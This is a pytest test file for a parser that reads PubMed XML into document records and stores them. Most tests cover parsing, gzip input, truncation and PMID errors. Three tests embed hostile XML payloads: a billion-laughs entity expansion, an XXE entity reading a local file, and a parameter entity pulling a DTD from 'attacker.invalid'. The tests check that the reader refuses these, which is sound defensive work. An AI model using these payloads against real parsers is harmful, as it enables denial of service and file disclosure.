from __future__ import annotations

import gzip
import time
from pathlib import Path

import pytest

from curation.errors import InputError
from curation.ingest.problems import Problems
from curation.ingest.pubmed_xml import read_pubmed_xml
from curation.records import Document

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
SAMPLE = FIXTURES / "pubmed_xml" / "pubmed25n0001_sample.xml"
EFETCH = FIXTURES / "eutils" / "efetch_two_articles.xml"

PROLOG = (
    '<?xml version="1.0" ?>\n'
    '<!DOCTYPE PubmedArticleSet PUBLIC "-//NLM//DTD PubMedArticle, 1st January 2025//EN" '
    '"https://dtd.nlm.nih.gov/ncbi/pubmed/out/pubmed_250101.dtd">\n'
)


def article(pmid: str, title: str = "A title.", abstract: str = "An abstract.") -> str:
    return (
        "<PubmedArticle>\n<MedlineCitation>\n"
        f"<PMID Version=\"1\">{pmid}</PMID>\n"
        "<Article><Journal><JournalIssue><PubDate><Year>2001</Year></PubDate></JournalIssue>"
        "<Title>J Test</Title></Journal>\n"
        f"<ArticleTitle>{title}</ArticleTitle>\n"
        f"<Abstract><AbstractText>{abstract}</AbstractText></Abstract>\n"
        "</Article>\n</MedlineCitation>\n</PubmedArticle>\n"
    )


def write(tmp_path: Path, text: str, name: str = "pubmed.xml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def read(path: Path, lenient: bool = False) -> tuple[list[Document], Problems]:
    problems = Problems(path, lenient=lenient)
    return list(read_pubmed_xml(path, problems)), problems


SAMPLE_DOCUMENTS = [
    Document(
        pmid="10022514",
        title="β-catenin & Akt: phosphorylation of GSK-3β at Ser9 <in vivo>.",
        abstract="Akt phosphorylates GSK-3β on Ser9, and this inhibits its kinase activity in vivo.",
        source="pubmed",
        journal="Cell",
        year=1998,
    ),
    Document(
        pmid="10022516",
        title="Structured abstract with Kd values.",
        abstract="OBJECTIVE: To measure binding.\nRESULTS: Binding was tight (Kd ≈ 5 nM).",
        source="pubmed",
        journal="Journal of Structured Abstracts",
        year=2020,
    ),
]


def test_baseline_sample_lenient_exact_documents() -> None:
    documents, problems = read(SAMPLE, lenient=True)
    # The book article, the DeleteCitation PMIDs and the CommentsCorrections PMID are not documents.
    assert documents == SAMPLE_DOCUMENTS
    assert problems.skipped == [
        f"{SAMPLE}, line 41, field 'Abstract': PMID 10022515: empty abstract; nothing to retrieve, skipped"
    ]


def test_empty_abstract_strict_raises_with_line() -> None:
    with pytest.raises(InputError) as caught:
        read(SAMPLE)
    assert (caught.value.path, caught.value.line, caught.value.field) == (str(SAMPLE), 41, "Abstract")
    assert "empty abstract" in caught.value.problem


def test_efetch_structured_and_plain_abstracts() -> None:
    documents, problems = read(EFETCH)
    assert problems.skipped == []
    assert [d.pmid for d in documents] == ["21639808", "15718470"]
    nejm, science = documents
    assert nejm.title == "Improved survival with vemurafenib in melanoma with BRAF V600E mutation."
    paragraphs = nejm.abstract.split("\n")
    assert [p.split(":")[0] for p in paragraphs] == ["BACKGROUND", "METHODS", "RESULTS", "CONCLUSIONS"]
    assert paragraphs[0].startswith("BACKGROUND: Phase 1 and 2 clinical trials of the BRAF kinase inhibitor")
    assert paragraphs[2].endswith("(hazard ratio, 0.37; P<0.001).")
    assert "Copyright" not in nejm.abstract
    assert (nejm.journal, nejm.year, nejm.source) == ("The New England journal of medicine", 2011, "pubmed")
    assert "phosphorylation of Thr308 in the activation loop" in science.abstract
    assert "in Drosophila and human cells" in science.abstract
    assert (science.journal, science.year) == ("Science (New York, N.Y.)", 2005)


def test_gzip_with_and_without_suffix(tmp_path: Path) -> None:
    data = gzip.compress(SAMPLE.read_bytes())
    for name in ("pubmed25n0001.xml.gz", "pubmed25n0001.download"):
        path = tmp_path / name
        path.write_bytes(data)
        assert read(path, lenient=True)[0] == SAMPLE_DOCUMENTS


def test_documents_stream_before_the_file_ends(tmp_path: Path) -> None:
    # A valid first article, then 1 MB of filler and a broken tail: the first document
    # arrives before the parser reaches the break.
    filler = "<!-- " + "x" * (1 << 20) + " -->\n"
    path = write(tmp_path, PROLOG + "<PubmedArticleSet>\n" + article("1") + filler + "<PubmedArticle><oops>")
    documents = read_pubmed_xml(path, Problems(path))
    assert next(documents).pmid == "1"
    with pytest.raises(InputError, match="truncated"):
        next(documents)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE PubmedArticleSet [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<PubmedArticleSet>
""" + article("1", abstract="&lol9;") + "</PubmedArticleSet>\n"


def test_billion_laughs_is_refused_quickly(tmp_path: Path) -> None:
    path = write(tmp_path, BILLION_LAUGHS)
    started = time.monotonic()
    with pytest.raises(InputError) as caught:
        read(path, lenient=True)
    assert time.monotonic() - started < 1.0
    error = caught.value
    assert (error.path, error.line, error.field) == (str(path), 3, "DOCTYPE")
    assert "declares the entity 'lol'" in error.problem and "billion laughs" in error.problem


def test_external_entity_is_refused_and_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    text = (
        f'<?xml version="1.0"?>\n<!DOCTYPE PubmedArticleSet [\n<!ENTITY xxe SYSTEM "file://{secret}">\n]>\n'
        "<PubmedArticleSet>\n" + article("1", abstract="&xxe;") + "</PubmedArticleSet>\n"
    )
    path = write(tmp_path, text)
    with pytest.raises(InputError, match="declares the entity 'xxe'") as caught:
        read(path)
    assert "TOP-SECRET" not in str(caught.value)


def test_parameter_entity_is_refused(tmp_path: Path) -> None:
    text = (
        '<?xml version="1.0"?>\n<!DOCTYPE PubmedArticleSet [\n'
        '<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">\n%remote;\n]>\n'
        "<PubmedArticleSet>\n" + article("1") + "</PubmedArticleSet>\n"
    )
    with pytest.raises(InputError, match="declares the entity 'remote'"):
        read(write(tmp_path, text))


def test_truncated_xml_names_file_and_line(tmp_path: Path) -> None:
    text = EFETCH.read_text()
    cut = text[: text.index("<PMID Version=\"1\">15718470")]
    path = write(tmp_path, cut)
    with pytest.raises(InputError) as caught:
        read(path, lenient=True)
    assert caught.value.path == str(path)
    assert caught.value.line == cut.count("\n") + 1
    assert "truncated" in caught.value.problem


def test_not_xml(tmp_path: Path) -> None:
    path = write(tmp_path, "pmid\ttitle\tabstract\n1\tA\tB\n", name="corpus.tsv")
    with pytest.raises(InputError) as caught:
        read(path, lenient=True)
    assert caught.value.line == 1 and "not XML" in caught.value.problem


def test_empty_file(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="the file is empty"):
        read(write(tmp_path, ""))


def test_wrong_root_element(tmp_path: Path) -> None:
    path = FIXTURES / "eutils" / "esearch_akt1_mtor.xml"
    with pytest.raises(InputError) as caught:
        read(path)
    assert caught.value.field == "eSearchResult" and "expected <PubmedArticleSet>" in caught.value.problem


def test_missing_and_bad_pmid_strict_and_lenient(tmp_path: Path) -> None:
    no_pmid = article("1").replace('<PMID Version="1">1</PMID>\n', "")
    body = article("7") + no_pmid + article("12a") + article("8")
    text = PROLOG + "<PubmedArticleSet>\n" + body + "</PubmedArticleSet>\n"
    path = write(tmp_path, text)
    with pytest.raises(InputError) as caught:
        read(path)
    assert (caught.value.line, caught.value.field) == (13, "PMID")
    assert "no MedlineCitation/PMID" in caught.value.problem
    documents, problems = read(path, lenient=True)
    assert [d.pmid for d in documents] == ["7", "8"]
    assert len(problems.skipped) == 2
    assert "line 21, field 'PMID': '12a' is not a PubMed id" in problems.skipped[1]


def test_undefined_named_entity_is_reported(tmp_path: Path) -> None:
    text = PROLOG + "<PubmedArticleSet>\n" + article("5", title="TGF-&beta; signalling") + "</PubmedArticleSet>\n"
    path = write(tmp_path, text)
    with pytest.raises(InputError, match="undefined entity '&beta;'"):
        read(path)
    assert read(path, lenient=True)[0] == []


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="file not found"):
        read(tmp_path / "absent.xml")


def test_first_authors_and_publication_types_are_read_and_stored(tmp_path: Path) -> None:
    from curation.store.base import transaction
    from curation.store.corpus import add_documents, get_documents
    from curation.store.opening import open_store

    authors = "".join(f"<Author><LastName>{last}</LastName><Initials>{ini}</Initials></Author>"
                      for last, ini in (("Smith", "J"), ("Doe", "AB"), ("Lee", "K"), ("Park", "S")))
    body = (
        '<PubmedArticle><MedlineCitation><PMID Version="1">31</PMID><Article>'
        "<Journal><JournalIssue><PubDate><Year>2019</Year></PubDate></JournalIssue><Title>J Clin Oncol</Title>"
        "</Journal><ArticleTitle>BRAF V600E.</ArticleTitle><Abstract><AbstractText>Vemurafenib.</AbstractText>"
        f"</Abstract><AuthorList>{authors}</AuthorList><PublicationTypeList>"
        "<PublicationType>Clinical Trial, Phase II</PublicationType><PublicationType>Journal Article"
        "</PublicationType></PublicationTypeList></Article></MedlineCitation></PubmedArticle>"
        '<PubmedArticle><MedlineCitation><PMID Version="1">32</PMID><Article><ArticleTitle>T.</ArticleTitle>'
        "<Abstract><AbstractText>A.</AbstractText></Abstract><AuthorList><Author><CollectiveName>TCGA Network"
        "</CollectiveName></Author></AuthorList></Article></MedlineCitation></PubmedArticle>"
    )
    path = tmp_path / "a.xml"
    path.write_text(PROLOG + f"<PubmedArticleSet>{body}</PubmedArticleSet>")
    first, second = read_pubmed_xml(path, Problems(path))
    assert first.authors == "Smith J, Doe AB, Lee K, et al." and second.authors == "TCGA Network"
    assert first.pub_types == ("Clinical Trial, Phase II", "Journal Article") and second.pub_types == ()
    con = open_store(tmp_path / "s.duckdb")
    with transaction(con):
        add_documents(con, [first, second])
    stored = {d.pmid: d for d in get_documents(con, ["31", "32"])}
    assert (stored["31"].year, stored["31"].journal, stored["31"].authors, stored["31"].pub_types) == (
        2019, "J Clin Oncol", "Smith J, Doe AB, Lee K, et al.", ("Clinical Trial, Phase II", "Journal Article"))
    con.close()
